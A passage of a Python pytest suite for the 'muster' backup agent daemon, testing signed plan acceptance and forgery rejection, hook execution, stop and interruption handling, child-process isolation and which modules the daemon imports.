        hooks={"pre": [{"command": "echo pre $MUSTER_HOOK"}], "post": [{"command": "echo post"}]},
    )
    agent.receive_plan(encode(sign_plan(plan, signing)))
    for _ in range(2):
        agent._execute(Task("src", "backup", datetime.now(UTC)))
    results = spooled(agent, RunResult)
    backups = [r for r in results if r.kind == "backup"]
    assert [r.status for r in backups] == ["success", "success"]
    first = backups[0]
    assert first.stats.files == 2 and first.stats.volumes == 1 and first.full is True
    assert first.stats.bytes_read == 300_006 and first.snapshot
    assert [(h.command, h.exit_code, h.output) for h in first.hooks] == [
        ("echo pre $MUSTER_HOOK", 0, "pre pre\n"),
        ("echo post", 0, "post\n"),
    ]
    forgets = [r for r in results if r.kind == "forget"]
    assert [r.status for r in forgets] == ["success", "success"]
    assert forgets[1].model_extra["forgotten"] == [first.snapshot]
    assert snapshots(tmp_path) == [f"{backups[1].snapshot}.json"]
    statuses = spooled(agent, RunStatus)
    assert {s.run_id for s in statuses} == {r.run_id for r in backups}
    assert statuses[-1].files_total == 2  # the previous snapshot gives the totals
    assert agent.scheduler.running == []


def test_a_failing_pre_hook_fails_the_run_and_post_hooks_still_run(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing)
    hooks = {"pre": [{"command": "echo no db; exit 4"}], "post": [{"command": "echo cleanup"}]}
    plan = backup_plan(tmp_path, source, hooks=hooks)
    agent.receive_plan(encode(sign_plan(plan, signing)))
    agent._execute(Task("src", "backup", datetime.now(UTC)))
    (found,) = spooled(agent, RunResult)
    assert found.status == "failure"
    assert (
        found.error == "pre hook `echo no db; exit 4` exited with status 4: the backup did not run"
    )
    assert [h.output for h in found.hooks] == ["no db\n", "cleanup\n"]
    assert snapshots(tmp_path) == []


def test_a_stop_request_interrupts_a_backup_and_leaves_no_snapshot(
    tmp_path, signing, source, monkeypatch
):
    agent = make_agent(tmp_path, signing)
    hooks = {"post": [{"command": "echo post ran $MUSTER_STATUS"}]}
    agent.receive_plan(encode(sign_plan(backup_plan(tmp_path, source, hooks=hooks), signing)))
    import agent.daemon_run as daemon_run

    reads = []
    original = daemon_run._Progress.__call__

    def report_then_stop(self, files, bytes_done):
        reads.append(bytes_done)
        agent.stop()  # as SIGTERM would, while the backup's workers read files
        return original(self, files, bytes_done)

    monkeypatch.setattr(daemon_run._Progress, "__call__", report_then_stop)
    agent._execute(Task("src", "backup", datetime.now(UTC)))
    (found,) = spooled(agent, RunResult)
    assert found.status == "interrupted" and reads
    assert "nothing of it is visible" in found.error
    assert found.hooks[-1].output == "post ran interrupted\n"
    assert snapshots(tmp_path) == []


def test_a_restore_test_run(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing)
    plan = backup_plan(tmp_path, source, restore_test={"every": 3600, "sample": 2})
    agent.receive_plan(encode(sign_plan(plan, signing)))
    agent._execute(Task("src", "verify", datetime.now(UTC)))
    agent._execute(Task("src", "backup", datetime.now(UTC)))
    agent._execute(Task("src", "verify", datetime.now(UTC)))
    none, _, tested = spooled(agent, RunResult)
    assert (none.kind, none.status) == ("verify", "failure") and "nothing to test" in none.error
    assert (tested.kind, tested.status) == ("verify", "success")
    assert tested.stats.files_checked == 2 and tested.stats.volumes_tested == 1
    assert tested.stats.coverage == 1.0


def test_storage_failures_are_reported_not_raised(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing)
    plan = backup_plan(tmp_path, source)
    agent.receive_plan(encode(sign_plan(plan, signing)))
    (tmp_path / "target").write_text("a file where the directory should be")
    agent._execute(Task("src", "backup", datetime.now(UTC)))
    (found,) = spooled(agent, RunResult)
    assert found.status == "failure" and found.error


def test_unknown_trusted_key_files_stop_the_start(tmp_path, signing):

    with pytest.raises(InvalidMessage, match="not found"):
        make_agent(tmp_path, signing, trusted_keys=[tmp_path / "missing.pub"])


def test_spooled_messages_decode_as_contract_messages(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing)
    agent.receive_plan(b"{}")
    for entry in agent.spool.pending():
        assert decode(entry.path.read_bytes()).type == "alert"


def test_a_run_that_never_reaches_a_safe_point_is_reported_interrupted_at_exit(
    tmp_path, signing, source, monkeypatch
):
    agent = make_agent(tmp_path, signing, broker_url="amqp://127.0.0.1:1/", stop_timeout=0.5)
    agent.receive_plan(encode(sign_plan(backup_plan(tmp_path, source), signing)))
    started, release = threading.Event(), threading.Event()

    def stuck(task, job):  # a restore test, say, which has no interruption point
        started.set()
        release.wait(30)
        raise AssertionError("never reached")

    monkeypatch.setattr(agent.runner, "run", stuck)
    runner = threading.Thread(target=agent.run, daemon=True)
    runner.start()
    try:
        assert started.wait(10)
        assert agent.keepalive().running == ["src"]
        began = time.monotonic()
        agent.stop()
        runner.join(15)
        assert not runner.is_alive() and time.monotonic() - began < 5
        (found,) = spooled(agent, RunResult)
        assert (found.job, found.status) == ("src", "interrupted")
    finally:
        release.set()


def test_backup_honours_the_plans_bandwidth_limit(tmp_path, signing, source):
    (source / "sub" / "big.bin").write_bytes(os.urandom(3 << 20))
    agent = make_agent(tmp_path, signing)
    plan = backup_plan(tmp_path, source, bandwidth_limit="1MiB")
    agent.receive_plan(encode(sign_plan(plan, signing)))
    began = time.monotonic()
    agent._execute(Task("src", "backup", datetime.now(UTC)))
    assert spooled(agent, RunResult)[0].status == "success"
    assert time.monotonic() - began >= 1.8  # 3 MiB at 1 MiB/s, after a one-second burst


def test_one_agent_per_state_dir(tmp_path, signing):
    first = make_agent(tmp_path, signing, broker_url="amqp://127.0.0.1:1/")
    first.start()
    try:
        with pytest.raises(InvalidMessage, match="another agent is running"):
            make_agent(tmp_path, signing).start()
    finally:
        first.stop()
        first.shutdown()


# -- runs in a child process (what `muster agent run` does) --------------------------------


def wait_until(check, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.05)


def test_an_isolated_backup_reports_what_an_in_process_one_does(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing, isolated_runs=True)
    hooks = {"pre": [{"command": "echo pre $MUSTER_JOB"}]}
    plan = backup_plan(tmp_path, source, hooks=hooks, retention={"keep_last": 1})
    agent.receive_plan(encode(sign_plan(plan, signing)))
    agent._execute(Task("src", "backup", datetime.now(UTC)))
    backup, forget = spooled(agent, RunResult)
    assert (backup.kind, backup.status, forget.kind, forget.status) == (
        "backup",
        "success",
        "forget",
        "success",
    )
    assert backup.stats.files == 2 and backup.stats.bytes_read == 300_006
    assert [h.output for h in backup.hooks] == ["pre src\n"]
    assert snapshots(tmp_path) == [f"{backup.snapshot}.json"]
    phases = [s.phase for s in spooled(agent, RunStatus) if s.run_id == backup.run_id]
    assert phases[:2] == ["pre_hooks", "starting"]
    agent._execute(Task("src", "verify", datetime.now(UTC)))
    assert spooled(agent, RunResult)[-1].stats.files_checked == 2


def test_a_stop_request_reaches_the_runs_process_at_a_safe_point(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing, isolated_runs=True)
    hooks = {
        "pre": [{"command": "sleep 30"}],
        "post": [{"command": "echo post ran $MUSTER_STATUS"}],
    }
    agent.receive_plan(encode(sign_plan(backup_plan(tmp_path, source, hooks=hooks), signing)))
    worker = threading.Thread(
        target=agent._execute, args=(Task("src", "backup", datetime.now(UTC)),)
    )
    worker.start()
    wait_until(lambda: spooled(agent, RunStatus))  # the child runs its pre hook
    agent.stop()
    worker.join(20)
    assert not worker.is_alive()
    (found,) = spooled(agent, RunResult)
    assert found.status == "interrupted" and "nothing of it is visible" in found.error
    assert found.hooks[-1].output == "post ran interrupted\n"
    assert snapshots(tmp_path) == []


def test_a_runs_process_that_dies_is_a_failed_run(tmp_path, signing, source, monkeypatch):
    agent = make_agent(tmp_path, signing, isolated_runs=True)
    agent.receive_plan(encode(sign_plan(backup_plan(tmp_path, source), signing)))
    monkeypatch.setattr(daemon_run.Runner, "run", lambda *_: os._exit(3))  # in the child
    agent._execute(Task("src", "backup", datetime.now(UTC)))
    (found,) = spooled(agent, RunResult)
    assert found.status == "failure"
    assert found.error == "the run's process exited with status 3 before its result"


def test_a_runs_process_is_killed_when_it_does_not_stop_in_time(tmp_path, signing, source):
    agent = make_agent(
        tmp_path, signing, isolated_runs=True, broker_url="amqp://127.0.0.1:1/", stop_timeout=0.5
    )
    hooks = {"post": [{"command": "sleep 20"}]}  # post hooks run to their end, stop or not
    agent.receive_plan(encode(sign_plan(backup_plan(tmp_path, source, hooks=hooks), signing)))
    thread = threading.Thread(target=agent.run, daemon=True)
    thread.start()
    wait_until(lambda: agent.runner._child is not None)
    child = agent.runner._child
    wait_until(lambda: any(s.phase == "starting" for s in spooled(agent, RunStatus)))
    agent.stop()
    thread.join(15)
    assert not thread.is_alive()
    with pytest.raises(ProcessLookupError):  # killed, and reaped
        os.kill(child, 0)
    (found,) = spooled(agent, RunResult)
    assert (found.job, found.status) == ("src", "interrupted")
    assert found.error == "the run's process exited with status -9 before its result"
    assert agent.scheduler.running == []


def test_the_daemon_loads_no_engine_storage_client_compression_or_cryptography() -> None:
    """The daemon's modules leave the engine and cryptography to child processes
    (agent.daemon_run): importing them must not import those. Memory is not asserted,
    imports are."""
    code = "import sys, agent.daemon_cli, agent.daemon_run\nprint('\\n'.join(sorted(sys.modules)))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    loaded = set(done.stdout.split())
    assert "agent.daemon" in loaded and "kombu" in loaded  # the check sees imports
    lazy = (
        "agent.actions",
        "agent.archive",
        "agent.catalog",
        "agent.context",
        "agent.state",
        "agent.storage",
        "agent.volumes",
        "agent.walk",
        "agent.age",
        "agent.facts",
        "boto3",
        "botocore",
        "broker.signing",
        "croniter",
        "cryptography",
        "dotenv",
        "pydantic_settings",
        "requests",
        "rich",
        "swiftclient",
        "urllib.request",
        "zstandard",
    )
    assert sorted(m for m in loaded if m.startswith(lazy)) == []


ISOLATED_AGENT = """
import json, sys
from pathlib import Path
from agent.daemon import Agent
from broker.agent_config import AgentSettings

tmp = Path(sys.argv[1])
settings = AgentSettings(
    node="web1",
    state_dir=tmp / "state",
    trusted_keys=[tmp / "signing.pem.pub"],
    metadata_url=None,
    cloud_init_path=tmp / "none",
    config_drive_path=tmp / "none",
)
agent = Agent(settings, isolated_runs=True)
answers = [agent.receive_plan((tmp / name).read_bytes()) for name in sys.argv[2:]]
again = Agent(settings, isolated_runs=True)
wakeups = [again.scheduler.next_wakeup() for _ in range(3)]
assert again.keepalive().facts.hostname
loaded = ("cryptography", "agent.age", "broker.signing", "croniter", "dateutil", "agent.facts")
print(json.dumps({
    "recipient": agent.recipient,
    "answers": answers,
    "rejection": agent.last_rejection,
    "stored": again.plan_hash,
    "wakeups": [wakeup.isoformat() for wakeup in wakeups],
    "loaded": sorted(m for m in sys.modules if m.startswith(loaded)),
}))
"""


def test_an_isolated_agent_verifies_plans_without_loading_cryptography(tmp_path, signing, source):
    """Nor croniter: the plan's cron schedule is validated, and its times computed, in
    child processes too."""
    plan = backup_plan(tmp_path, source, schedule={"cron": "*/5 * * * *"})
    (tmp_path / "good.json").write_bytes(encode(sign_plan(plan, signing)))
    forged = json.loads(encode(sign_plan(plan, signing)))
    forged["plan"]["jobs"][0]["sources"]["paths"] = ["/"]
    (tmp_path / "forged.json").write_text(json.dumps(forged))
    done = subprocess.run(
        [sys.executable, "-c", ISOLATED_AGENT, str(tmp_path), "good.json", "forged.json"],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout)
    assert found["answers"] == ["accepted", "rejected"]
    assert "altered or forged" in found["rejection"]
    assert found["stored"] == plan.content_hash()  # the stored plan verified on restart
    assert found["recipient"] == str(ensure_identity(tmp_path / "state").recipient)
    wakeup = datetime.fromisoformat(found["wakeups"][0])
    assert found["wakeups"] == [wakeup.isoformat()] * 3
    assert (wakeup.minute % 5, wakeup.second) == (0, 0)
    assert timedelta(0) < wakeup - datetime.now(UTC) <= timedelta(minutes=5)
    assert found["loaded"] == []


def test_schedule_times_it_cannot_get_delay_the_schedule_without_stopping_the_agent(
    tmp_path, signing, source, monkeypatch
):
    """The daemon computes cron times in a child: a fork refused (memory pressure) is
    retried; the worker thread carries on."""
    monkeypatch.setattr(daemon, "SCHEDULE_RETRY", 0.05)
    agent = make_agent(tmp_path, signing)
    plan = backup_plan(tmp_path, source, schedule={"cron": "* * * * *"})
    assert agent.receive_plan(encode(sign_plan(plan, signing))) == "accepted"
    asked: list[datetime] = []

    def compute(expression: str, at: datetime) -> tuple[datetime, datetime]:
        asked.append(at)
        if len(asked) == 1:
            raise OSError(errno.EAGAIN, "fork refused")
        return cron_window(expression, at)

    agent.scheduler.cron.compute = compute
    worker = threading.Thread(target=agent._work)
    worker.start()
    try:
        wait_until(lambda: len(asked) >= 2, timeout=10)
        assert not agent.stopping.is_set()
    finally:
        agent.stop()
        worker.join(10)
    assert not worker.is_alive()


def test_an_isolated_agent_refuses_to_start_with_a_bad_trusted_key(tmp_path, signing):
    bad = tmp_path / "bad.pub"
    bad.write_text("not a key")
    with pytest.raises(ValueError):
        make_agent(tmp_path, signing, isolated_runs=True, trusted_keys=[bad])


def test_the_daemon_process_keeps_no_cli_modules() -> None:
    """`muster agent run` execs agent.daemon_main: what that imports is what the daemon
    holds for its lifetime, and the option parsing stays behind."""
    code = "import sys, agent.daemon_main\nprint('\\n'.join(sorted(sys.modules)))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    loaded = set(done.stdout.split())
    assert "agent.daemon" in loaded
    cli = ("click", "muster.cli", "agent.daemon_cli", "broker.cli", "pydantic_settings", "rich")
    assert sorted(m for m in loaded if m.startswith(cli)) == []


def test_agent_run_hands_resolved_settings_to_the_daemon_process(tmp_path: Path) -> None:
    """Flags and environment are resolved before the exec and reach the daemon (its start-up
    error names the flag's state dir and the environment's missing key, with the CLI's exit
    status for bad settings)."""
    missing = tmp_path / "missing.pub"
    env = {**os.environ, "MUSTER_TRUSTED_KEYS": str(missing), "MUSTER_CONFIG": ""}
    done = subprocess.run(
        [sys.executable, "-m", "muster", "agent", "run", "--state-dir", str(tmp_path / "st")],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2, done.stderr
    assert f"trusted key file(s) not found: {missing}" in done.stderr
    assert (tmp_path / "st" / "identity.txt").is_file()


def test_the_daemon_starts_with_one_malloc_arena_and_gives_hooks_the_callers_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """glibc reads GLIBC_TUNABLES at exec; the daemon then restores the variable as the
    caller had it, so hooks and tools never see ours."""
    env = {**os.environ, "MUSTER_BROKER_URL": "amqp://127.0.0.1:9/", "MUSTER_CONFIG": ""}
    env.pop("GLIBC_TUNABLES", None)
    log = tmp_path / "agent.log"
    argv = [sys.executable, "-m", "muster", "agent", "run", "--state-dir", str(tmp_path / "st")]
    with log.open("wb") as out:
        process = subprocess.Popen(argv, env=env, stdout=out, stderr=subprocess.STDOUT)
    try:
        wait_until(lambda: "started: broker" in log.read_text(), timeout=60)
        started = Path(f"/proc/{process.pid}/environ").read_bytes().split(b"\0")
        assert b"GLIBC_TUNABLES=glibc.malloc.arena_max=1" in started
    finally:
        process.send_signal(signal.SIGTERM)
        assert process.wait(30) == 0

    read_end, write_end = os.pipe()
    payload = {"log_level": 30, "settings": {"state_dir": str(tmp_path)}, "tunables": None}
    os.write(write_end, json.dumps(payload).encode())
    os.close(write_end)
    monkeypatch.setenv("GLIBC_TUNABLES", "glibc.malloc.arena_max=2")
    settings, level = daemon_main.read_settings(read_end)
    assert (settings.state_dir, level) == (tmp_path, 30)
    assert "GLIBC_TUNABLES" not in os.environ
